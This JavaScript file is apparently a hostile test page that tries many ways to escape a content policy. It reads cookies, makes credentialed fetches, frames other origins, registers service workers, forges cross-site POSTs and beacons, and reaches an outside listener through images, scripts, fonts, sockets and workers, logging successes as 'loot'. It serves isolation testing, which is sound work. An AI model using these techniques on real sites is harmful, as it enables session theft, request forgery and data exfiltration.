// A pack that tries everything. The hash says what there is to attack: `app`, `internet`, and `other`, a page of another
// pack. `loot` is what it got, by the name of the attack; what was refused is not in it.
//
// read: what must fail in any browser. reach: what the policy sent with packs refuses. Attacks that cannot see what they
// did return nothing: whether they did something, the app and the listener on the internet know.
const { app, internet, other } = Object.fromEntries(new URLSearchParams(location.hash.slice(1)));
const PATIENCE = 1500; // ms that one attack may take
const form = () => new URLSearchParams({ lang: "ar", back: "/" });

function put(tag, attributes) {
  const made = Object.assign(document.createElement(tag), attributes);
  document.body.append(made);
  return made;
}

// Resolves once an element has loaded; refused where it has not.
function loaded(tag, attributes) {
  return new Promise((resolve, reject) => {
    put(tag, { ...attributes, onload: () => resolve("loaded"), onloadeddata: () => resolve("loaded"), onerror: reject });
  });
}

// What a frame or a window at the address lets a script see.
async function framed(address, tag = "iframe") {
  const frame = put(tag, tag === "object" ? { data: address } : { src: address });
  await new Promise(resolve => { frame.onload = resolve; setTimeout(resolve, PATIENCE / 2); });
  return look(frame.contentWindow);
}

async function opened(address) {
  const window_ = open(address);
  await new Promise(resolve => setTimeout(resolve, PATIENCE / 2));
  window_.postMessage({ lang: "ar", type: "language" }, "*");
  try {
    return look(window_);
  } finally {
    window_.close();
  }
}

function look(window_) {
  const seen = window_.document.documentElement.innerText + window_.document.cookie + window_.localStorage.length;
  if (window_.location.href === "about:blank") throw new Error("nothing is there");
  return seen;
}

function asked(address) {
  return new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", address);
    request.withCredentials = true;
    request.onload = () => resolve(request.responseText);
    request.onerror = reject;
    request.send();
  });
}

function said(channel, happened) {
  return new Promise((resolve, reject) => {
    channel[happened] = () => resolve("connected");
    channel.onerror = reject;
  });
}

// A form sent into a frame, so that the attack goes on.
function sent(address, place = document.body) {
  const page = place.ownerDocument;
  const target = Object.assign(page.createElement("iframe"), { name: "sink" + Math.random() });
  const made = Object.assign(page.createElement("form"), { action: address, method: "post", target: target.name });
  for (const [name, value] of form()) {
    made.append(Object.assign(page.createElement("input"), { name, value }));
  }
  place.append(target, made);
  made.submit();
}

async function fromWorker(address, kind) {
  const source = `fetch("${address}").then(answer => answer.text()).then(postMessage, () => postMessage(""))`;
  const imported = `try { importScripts("${address}/a.js"); postMessage("imported"); } catch { postMessage(""); }`;
  const text = kind === "import" ? imported : source;
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  const got = await new Promise((resolve, reject) => {
    worker.onmessage = event => resolve(event.data);
    worker.onerror = reject;
  });
  if (!got) throw new Error("refused");
  return got;
}

// Answers of the pack's own origin that come without a policy would give their documents the freedom to attack.
async function throughFrame(path, address) {
  const frame = put("iframe", { src: path });
  await new Promise(resolve => { frame.onload = resolve; });
  const page = frame.contentDocument;
  sent(`${address}/language`, page.body);
  page.body.append(Object.assign(page.createElement("img"), { src: `${address}/through-frame.png` }));
  await frame.contentWindow.fetch(`${address}/through-frame`, { mode: "no-cors" });
  return "fetched";
}

const OWN_ANSWERS = {
  "raw": "/raw/none/content/none",
  "program": "/content/hostile/none?format=json",
  "error": "/content/hostile/none",
  "suggest": "/suggest?q=a",
  "icon": "/favicon.ico",
  "health": "/health",
  "root": "/",
  "long": "/" + "a".repeat(300000),
  "metadata": "/raw/hostile/meta/Title",
  "script": "attack.js",
};

const reading = {
  "cookie": () => document.cookie || Promise.reject(),
  "fetch the app": async () => (await fetch(app, { credentials: "include" })).text(),
  "fetch by the way home": async () => (await fetch("/box/", { credentials: "include" })).text(),
  "request the app": () => asked(`${app}/library`),
  "post to the app": async () => (await fetch(`${app}/language`, { method: "POST", body: form(), credentials: "include" })).text(),
  "frame the app": () => framed(app),
  "object of the app": () => framed(app, "object"),
  "frame the way home": () => framed("/box/"),
  "window of the app": () => opened(app),
  "window that changes": () => opened(`${app}/language?lang=ar&back=/`),
  "service worker over all": async () => (await navigator.serviceWorker.register("service-worker.js", { scope: "/" })).scope,
  "service worker over others": async () => (await navigator.serviceWorker.register("service-worker.js", { scope: "/content/other/" })).scope,
  "service worker by raw": async () => (await navigator.serviceWorker.register("/raw/hostile/content/service-worker.js", { scope: "/content/" })).scope,
};

// With a host for each pack only: on one port, packs share an origin.
const readingOthers = {
  "fetch another pack": async () => (await fetch(other)).text(),
  "another pack by my address": async () => (await fetch(new URL(other).pathname)).text(),
  "raw of another pack by my address": async () => (await fetch("/raw/other/content/index.html")).text(),
  "frame another pack": () => framed(other),
  "frame another pack by my address": () => framed(new URL(other).pathname),
  "window of another pack": () => opened(other),
};

const blind = address => ({
  "post": () => fetch(`${address}/language`, { method: "POST", mode: "no-cors", credentials: "include", body: form() }).then(() => {}),
  "beacon": () => { navigator.sendBeacon(`${address}/language`, form()); },
  "form": () => sent(`${address}/language`),
  "form of nobody": () => {
    put("iframe", {
      sandbox: "allow-scripts allow-forms",
      srcdoc: `<form method=post action="${address}/language"><input name=lang value=ar></form><script>document.forms[0].submit()</script>`,
    });
  },
  "ping": () => put("a", { href: "#" + location.hash.slice(1), ping: `${address}/language` }).click(),
});

const reach = address => ({
  "fetch": () => fetch(address, { mode: "no-cors" }).then(() => "fetched"),
  "image": () => loaded("img", { src: `${address}/favicon.ico?a.png` }),
  "script": () => loaded("script", { src: `${address}/catalog/a.js` }),
  "module": () => import(`${address}/module.js`),
  "style": () => loaded("link", { rel: "stylesheet", href: `${address}/a.css` }),
  "preload": () => loaded("link", { rel: "preload", as: "image", href: `${address}/preload.png` }),
  "prefetch": () => loaded("link", { rel: "prefetch", href: `${address}/prefetch` }),
  "film": () => loaded("video", { src: `${address}/a.png`, preload: "auto" }),
  "embed": () => framed(address, "embed"),
  "font": () => new FontFace("foreign", `url(${address}/font)`).load().then(() => "loaded"),
  "socket": () => said(new WebSocket(address.replace("http", "ws")), "onopen"),
  "events": () => said(new EventSource(address), "onopen"),
  "worker": () => fromWorker(address, "fetch"),
  "worker's import": () => fromWorker(address, "import"),
  ...Object.fromEntries(
    Object.entries(OWN_ANSWERS).map(([name, path]) => [`through ${name}`, () => throughFrame(path, address)])),
});

async function attempt(attacks, loot, prefix = "") {
  await Promise.all(Object.entries(attacks).map(async ([name, attack]) => {
    const given_up = new Promise((_, reject) => setTimeout(reject, PATIENCE));
    try {
      const got = await Promise.race([attack(), given_up]);
      if (got !== undefined) loot[prefix + name] = String(got).slice(0, 100);
    } catch { /* refused */ }
  }));
}

onload = async () => {
  const loot = { read: {}, others: {}, reach: {} };
  const targets = Object.entries({ app, internet });
  const changing = targets.map(([name, address]) => attempt(blind(address), loot.read, `${name}: `));
  await Promise.all([attempt(reading, loot.read), attempt(readingOthers, loot.others), ...changing]);
  await Promise.all(targets.map(([name, address]) => attempt(reach(address), loot.reach, `${name}: `)));
  window.loot = loot;
};
